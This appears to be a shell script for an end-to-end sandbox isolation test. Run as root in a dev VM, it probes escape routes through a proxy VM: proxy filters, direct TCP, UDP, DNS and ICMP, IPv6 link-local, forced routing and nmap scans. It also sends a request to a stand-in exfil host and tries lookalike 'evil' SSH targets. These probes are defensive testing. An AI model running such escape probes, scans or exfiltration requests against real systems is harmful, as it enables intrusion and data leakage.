#!/bin/sh
# sbx e2e: every way out of a dev VM, tried as root (the worst case: code
# in the VM that got root).  Baked by the e2e recipes as a template: the
# proxy's address and ports come from the proxy VM's recipe.  The host runs
# it over the host-only channel (run-VM.sh ssh sudo -n PROBE MODE OTHER
# TOKEN) and copies its results back with scp, never the serial console.
#   MODE: full (the offline round, the isolation probes, the proxy VM's
#         restarts) or isolation (the isolation probes only: a second dev
#         VM behind the same proxy VM);
#   OTHER: the other dev VM's address on its own link (must be unreachable);
#   TOKEN: in every URL this VM asks for, so the host tells the VMs apart.
# Each result is one line on stdout and in /var/tmp/sbx-e2e-results:
#   E2E-PROBE|NAME|EXPECTED|SEEN|DETAIL
# EXPECTED and SEEN are "pass" (the traffic got through) or "blocked".
#
# Addresses: the proxy VM's user networking (as the test runs it) is
# 198.18.0.0/24, its host alias 198.18.0.2 is the host's 127.0.0.1, where
# the test's servers listen.  Nothing here targets an address that leaves
# the machine: 198.18.0.2 and 10.0.2.2 are the host's loopback if anything
# reached them at all, 192.0.2.1 (TEST-NET-1) is tried only with the dev
# VM's own routing, which has no route to it.
PROXY='{{proxy_address}}'
HTTP_PORT='{{http_proxy_port}}'
SSH_PORT='{{ssh_proxy_port}}'
HOST=198.18.0.2
MODE=${1:-full}
OTHER=${2:-192.0.2.1}
TOKEN=${3:-@TOKEN@}
WAIT=${E2E_WAIT:-1200}
RESULTS=/var/tmp/sbx-e2e-results

export PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
: >"$RESULTS"
chmod 0644 "$RESULTS"
# say LINE: to the channel (stdout) and the results file.
say() {
	printf '%s\n' "$*"
	printf '%s\n' "$*" >>"$RESULTS"
}
say "E2E-BEGIN $(date -u +%s) $MODE $(hostname)"
# The state round (tests/e2e/state.sh): a baked file, deleted at the end
# of this run; after run-dev.sh --reset it is back.
if [ -e /etc/sbx-e2e-baked ]; then m=present; else m=missing; fi
say "E2E-STATE baked-file $m"

# result NAME EXPECTED STATUS DETAIL: STATUS 0 means the traffic passed.
result() {
	if [ "$3" -eq 0 ]; then seen=pass; else seen=blocked; fi
	d=$(printf %s "$4" | tr '\n|' '  ' | cut -c1-110)
	say "E2E-PROBE|$1|$2|$seen|$d"
}
# probe NAME EXPECTED CMD...: CMD exiting 0 means it got through.
probe() {
	n=$1 e=$2
	shift 2
	out=$("$@" 2>&1)
	result "$n" "$e" $? "$out"
}
# retry CMD...: up to 5 tries, for what needs the proxy VM's services.
retry() {
	i=0
	while [ $i -lt 5 ]; do
		"$@" && return 0
		i=$((i + 1))
		sleep 5
	done
	return 1
}

# The curl tests: through a proxy, the body must be the host server's
# ("sbx-e2e PATH"), with the path we asked (an error page of the proxy may
# quote the URL, token and all).
http_via() { # PROXY URL
	b=$(curl -sS -m 30 -x "$1" "$2") || return 1
	echo "$b"
	case $b in "sbx-e2e /"*"$TOKEN"*) return 0 ;; esac
	return 1
}
https_env() { # URL, with the proxy settings of /etc/environment
	(
		set -a
		. /etc/environment
		set +a
		b=$(curl -sS -k -m 30 "$1") || exit 1
		echo "via https_proxy=${https_proxy:-}: $b"
		case $b in *"$TOKEN"*) exit 0 ;; esac
		exit 1
	)
}
# A CONNECT through a proxy; passes when the server's SSH banner comes back.
connect_ssh() { # PROXYPORT HOST PORT
	b=$(nc -X connect -x "$PROXY:$1" -w 15 "$2" "$3" </dev/null 2>&1 |
		head -c 200)
	echo "$b"
	case $b in *SSH-2.0-*) return 0 ;; esac
	return 1
}
# ssh as the dev user with the baked ~/.ssh/config: passes when the
# client speaks to the (fake) server behind the proxy.
ssh_dev() { # HOST
	o=$(runuser -u dev -- ssh -v -o BatchMode=yes \
		-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
		-o ConnectTimeout=30 "git@$1" true 2>&1)
	echo "$o" | grep -E 'ProxyCommand|remote software|Proxy error' |
		head -3
	echo "$o" | grep -q 'remote software version sbx-e2e-fake'
}
# Through the HTTP proxy to an address on the proxy VM's side.  Whether
# tinyproxy got a connection is read on the host from its log
# ("Established connection"): the answer seen here depends on what
# listens there (sshd answers a banner, dnsmasq waits for a DNS message).
http_private() { # URL
	b=$(curl -sS -m 25 -x "http://$PROXY:$HTTP_PORT" -o - \
		-w '\nhttp_code=%{http_code}' "$1" 2>&1)
	say "E2E-INFO via the HTTP proxy to $1: $(echo "$b" |
		tr -c '[:print:]\n' '.' | grep -v '^ *$' | tail -2 | tr '\n' ' ')"
}
bridge_reach() { # URL: 0 when anything at all came back from it
	curl -sS -m 20 -x "http://$PROXY:$HTTP_PORT" -o /dev/null \
		-w 'http_code=%{http_code}' "$1"
}
# Root in the dev VM turns IPv6 on for the link: passes when a port of
# another host on the link answers over IPv6 link-local.
ipv6_link() {
	sysctl -qw net.ipv6.conf.internal.disable_ipv6=0 || return 1
	# NetworkManager makes link-local addresses itself, so add one.
	ip -6 addr add fe80::e2e:21/64 dev internal nodad || return 1
	sleep 2
	peers=$(ping -6 -n -c 2 -W 2 "ff02::1%internal" 2>/dev/null |
		sed -n 's/.*bytes from \([0-9a-f:]*\).*/\1/p' | sort -u |
		grep -v '^fe80::e2e:21$')
	echo "all-nodes answered: ${peers:-none};"
	# The proxy VM's EUI-64 addresses (its recipe's internal MAC
	# 52:54:00:4c:01:11, the second link's :12), in case it answers TCP
	# but not ping.
	st=1
	for p in $peers fe80::5054:ff:fe4c:111 fe80::5054:ff:fe4c:112; do
		for port in 22 8443 8222; do
			if nc -6 -z -w 3 "$p%internal" "$port" 2>/dev/null; then
				echo "$p port $port answers;"
				st=0
			fi
		done
	done
	ip -6 addr del fe80::e2e:21/64 dev internal
	sysctl -qw net.ipv6.conf.internal.disable_ipv6=1
	[ $st -eq 0 ] || echo "no IPv6 answer on the link"
	return $st
}
tcp() { nc -z -w 5 "$1" "$2"; }
udp_dns() { dig +time=3 +tries=1 -p "${3:-53}" "@$1" "$2"; }
icmp() { ping -n -c 1 -W 3 "$1"; }

say "E2E-INFO addresses: $(ip -brief -4 addr | tr '\n' ';')"
say "E2E-INFO routes: $(ip -4 route | tr '\n' ';')"
say "E2E-INFO resolv.conf: $(grep -v '^#' /etc/resolv.conf 2>/dev/null | tr '\n' ';')"

# Wait for the proxies: the proxy VM boots its containers meanwhile.  A
# TCP connect is not enough (podman holds a published port open before the
# container runs): tinyproxy must answer, here with its 403 for a CONNECT
# to a port it never allows (no lookup, no connection).
ready() { # PORT
	r=$(printf 'CONNECT sbx-e2e-ready.invalid:1 HTTP/1.0\r\n\r\n' |
		nc -w 5 "$PROXY" "$1" 2>&1 | head -n 1)
	echo "$1: $r"
	case $r in "HTTP/1."*) return 0 ;; esac
	return 1
}
t0=$(date +%s)
while ! { ready "$HTTP_PORT" && ready "$SSH_PORT"; } >/dev/null 2>&1; do
	if [ $(($(date +%s) - t0)) -gt "$WAIT" ]; then
		break
	fi
	sleep 3
done
say "E2E-INFO proxies waited for: $(($(date +%s) - t0)) s"
both_ready() { ready "$HTTP_PORT" && ready "$SSH_PORT"; }

# Round 1: the proxy VM booted with its uplink unplugged (the host set the
# link down before the guest started).  Its services come from the images
# baked into it: both proxies must answer, the SSH filter refuse a host
# off its list, the DNS stand-in answer tinyproxy's lookup of a name only
# it knows (the host finds "config offline.sbx-e2e.test is" in the proxy
# VM's log), and nothing reach the host's servers.
http_answers() { # URL: 0 when the HTTP proxy itself answered
	c=$(curl -sS -m 60 -x "http://$PROXY:$HTTP_PORT" -o /dev/null \
		-w '%{http_code}' "$1" 2>&1)
	echo "http_code=$c"
	case $c in 000* | '') return 1 ;; esac
	return 0
}
filtered() { # PROXYPORT HOST PORT: 0 when the proxy says 403
	r=$(printf 'CONNECT %s:%s HTTP/1.0\r\n\r\n' "$2" "$3" |
		nc -w 15 "$PROXY" "$1" 2>&1 | head -n 1)
	echo "$r"
	case $r in "HTTP/1."*" 403"*) return 0 ;; esac
	return 1
}
if [ "$MODE" = full ]; then
	probe offline-proxies-answer pass both_ready
	probe offline-http-proxy-answers pass http_answers \
		"http://offline.sbx-e2e.test/e2e-offline-$TOKEN"
	probe offline-ssh-filter-refuses pass filtered "$SSH_PORT" blocked.example 22
	probe offline-uplink-down blocked http_via "http://$PROXY:$HTTP_PORT" \
		"http://$HOST/e2e-offline-$TOKEN"
	# The host plugs the uplink in when it reads this line.
	say "E2E-OFFLINE-DONE $(date -u +%s)"
fi
t1=$(date +%s)
until http_via "http://$PROXY:$HTTP_PORT" "http://$HOST/e2e-uplink-$TOKEN" \
	>/dev/null 2>&1; do
	if [ $(($(date +%s) - t1)) -gt 600 ]; then break; fi
	sleep 5
done
say "E2E-INFO uplink back after: $(($(date +%s) - t1)) s"

# Round 2: the uplink is in.
probe proxies-answer pass retry both_ready
# What the design lets out: HTTP(S) through tinyproxy-http, SSH to the
# allow-list through tinyproxy-ssh.
probe http-via-proxy pass retry http_via "http://$PROXY:$HTTP_PORT" \
	"http://$HOST/e2e-http-$TOKEN"
probe https-via-proxy-env pass retry https_env \
	"https://$HOST/e2e-https-$TOKEN"
probe ssh-proxy-github-com pass retry connect_ssh "$SSH_PORT" github.com 22
probe ssh-client-github-com pass retry ssh_dev github.com
probe ping-proxy-vm pass icmp "$PROXY"

# The proxies' limits.
probe http-proxy-connect-22 blocked connect_ssh "$HTTP_PORT" "$HOST" 22
probe ssh-proxy-not-listed blocked connect_ssh "$SSH_PORT" blocked.example 22
probe ssh-proxy-suffix blocked connect_ssh "$SSH_PORT" github.com.evil.example 22
probe ssh-proxy-prefix blocked connect_ssh "$SSH_PORT" evilgithub.com 22
probe ssh-proxy-ip-literal blocked connect_ssh "$SSH_PORT" "$HOST" 22
probe ssh-proxy-port-443 blocked connect_ssh "$SSH_PORT" github.com 443
probe ssh-client-not-listed blocked ssh_dev blocked.example
# The proxy VM itself and its other containers, through the HTTP proxy
# (tinyproxy-reached-* rows, judged on the host).
http_private "http://10.0.21.1:22/"
http_private "http://$PROXY:$SSH_PORT/"
# The DNS container on any port but 53 (Pi-hole's admin UI is on 80): a
# refused connection comes back at once as tinyproxy's 500, a dropped one
# (the bridge table) leaves curl to time out.
probe dns-ct-other-port blocked bridge_reach "http://10.0.21.2:80/"
# Any name the dev VM asks the HTTP proxy for is looked up by the proxy VM
# (the design has no allow-list there): the host checks the DNS log.
curl -s -m 20 -x "http://$PROXY:$HTTP_PORT" -o /dev/null \
	"https://exfil-$TOKEN.example/"
say "E2E-INFO asked the HTTP proxy for exfil-$TOKEN.example"

# Direct, with the dev VM's own routing (no default route).
probe tcp-host-alias blocked tcp "$HOST" 7000
probe tcp-slirp-host blocked tcp 10.0.2.2 7000
probe tcp-test-net blocked tcp 192.0.2.1 443
probe udp-host-alias blocked sh -c "echo x | nc -u -w 2 $HOST 7000"
probe dns-slirp blocked udp_dns 198.18.0.3 github.com
probe dns-proxy-vm blocked udp_dns "$PROXY" github.com
probe dns-pihole-ct blocked udp_dns 10.0.21.2 github.com
probe dns-resolver blocked getent hosts github.com
probe icmp-host-alias blocked icmp "$HOST"
probe icmp-test-net blocked icmp 192.0.2.1

probe ipv6-link-local blocked ipv6_link

# The other dev VM, on a link of its own behind the same proxy VM: no L2
# neighbour, and the proxy VM does not forward.  (Its sshd listens on the
# link address, as ours does: see self-sshd.)
my=$(ip -4 -o addr show internal 2>/dev/null | awk '{print $4}' | cut -d/ -f1)
say "E2E-INFO self-sshd: $(nc -z -w 5 "$my" 22 2>&1 && echo "port 22 of $my answers")"
probe other-dev-vm-icmp blocked icmp "$OTHER"
probe other-dev-vm-tcp-22 blocked tcp "$OTHER" 22

# Root in the dev VM routes everything at the proxy VM: the proxy VM must
# not forward.  Only the host alias (the host's loopback, where the test's
# canaries count what arrives) and the proxy VM's own uplink address are
# tried: never QEMU's DNS alias, which QEMU would pass to the host's real
# resolver.
if ip route replace default via "$PROXY" dev internal 2>/dev/null ||
	ip route replace default via "$PROXY"; then
	say "E2E-INFO forced route: $(ip -4 route | tr '\n' ';')"
	probe routed-tcp-host-alias blocked tcp "$HOST" 7000
	probe routed-tcp-host-http blocked tcp "$HOST" 80
	probe routed-udp-host-alias blocked sh -c "echo routed | nc -u -w 2 $HOST 7000; sleep 2; false"
	probe routed-dns-host-alias blocked udp_dns "$HOST" github.com
	probe routed-icmp-host-alias blocked icmp "$HOST"
	probe routed-tcp-proxy-uplink blocked tcp 198.18.0.15 22
	ip route replace "$OTHER/32" via "$PROXY" dev internal 2>/dev/null
	probe routed-other-dev-vm-tcp-22 blocked tcp "$OTHER" 22
	probe routed-other-dev-vm-icmp blocked icmp "$OTHER"
	ip route del "$OTHER/32" 2>/dev/null
	ip route del default 2>/dev/null
else
	result routed-setup pass 1 "cannot add a default route"
fi

# No port of the proxy VM answers on the link but the proxies.
scan=$(nmap -n -Pn -sT -p- --max-retries 1 --min-rate 2000 \
	--max-rtt-timeout 300ms -oG - "$PROXY" 2>&1)
open=$(echo "$scan" | grep -o '[0-9]*/open' | cut -d/ -f1 | sort -n |
	tr '\n' ',' | sed 's/,$//')
want="$(printf '%s\n%s\n' "$HTTP_PORT" "$SSH_PORT" | sort -n | tr '\n' ',' |
	sed 's/,$//')"
say "E2E-INFO tcp scan: $(echo "$scan" | grep -v '^#' | tr '\n' ';')"
if [ "$open" = "$want" ]; then st=1; else st=0; fi
result tcp-scan-other-ports blocked $st "open: ${open:-none} (proxies: $want)"
uscan=$(nmap -n -Pn -sU -p 53,67,68,69,123,137,161,500,5353,8080 \
	--max-retries 1 -oG - "$PROXY" 2>&1)
uopen=$(echo "$uscan" | grep -o '[0-9]*/open/' | cut -d/ -f1 | tr '\n' ',')
if [ -z "$uopen" ]; then st=1; else st=0; fi
result udp-scan blocked $st "answering: ${uopen:-none}"

if [ "$MODE" != full ]; then
	say "E2E-END $(date -u +%s)"
	exit 0
fi
# The other dev VM probes while this one waits: the host sets the flag
# 'others-done' when they finished, before the proxy VM's restarts.
others_done() {
	b=$(curl -sS -m 10 -x "http://$PROXY:$HTTP_PORT" \
		"http://$HOST/e2e-flag/others-done" 2>&1) || return 1
	case $b in *"others-done set"*) return 0 ;; esac
	return 1
}
t0=$(date +%s)
while ! others_done; do
	if [ $(($(date +%s) - t0)) -gt 1200 ]; then break; fi
	sleep 5
done
say "E2E-INFO the other dev VM's probes waited for: $(($(date +%s) - t0)) s"

# An admin on the proxy VM restarts a tinyproxy container, restarts and
# reloads nftables.service (each flushes the whole ruleset) and reloads
# sbx-firewall.service: sbx-e2e-restart there does it when this request
# shows in tinyproxy's log, then sets the host's flag 'restarted'.  The
# proxies must answer again, and the firewall still hold.
restarted() { # the flag, read through the HTTP proxy
	b=$(curl -sS -m 10 -x "http://$PROXY:$HTTP_PORT" \
		"http://$HOST/e2e-flag/restarted" 2>&1) || return 1
	echo "$b"
	case $b in *"restarted set"*) return 0 ;; esac
	return 1
}
curl -s -m 20 -x "http://$PROXY:$HTTP_PORT" -o /dev/null \
	"http://$HOST/e2e-restart-$TOKEN"
t0=$(date +%s)
while ! restarted >/dev/null 2>&1; do
	if [ $(($(date +%s) - t0)) -gt 900 ]; then break; fi
	sleep 5
done
say "E2E-INFO proxy VM restarts waited for: $(($(date +%s) - t0)) s"
probe restart-done pass restarted
probe restart-proxies-answer pass retry both_ready
probe restart-http-via-proxy pass retry http_via "http://$PROXY:$HTTP_PORT" \
	"http://$HOST/e2e-http-restart-$TOKEN"
probe restart-ssh-proxy-github-com pass retry connect_ssh "$SSH_PORT" github.com 22
probe restart-ssh-client-github-com pass retry ssh_dev github.com
probe restart-ssh-proxy-not-listed blocked connect_ssh "$SSH_PORT" blocked.example 22
probe restart-dns-ct-other-port blocked bridge_reach "http://10.0.21.2:80/"

rm -f /etc/sbx-e2e-baked
say "E2E-END $(date -u +%s)"
sync
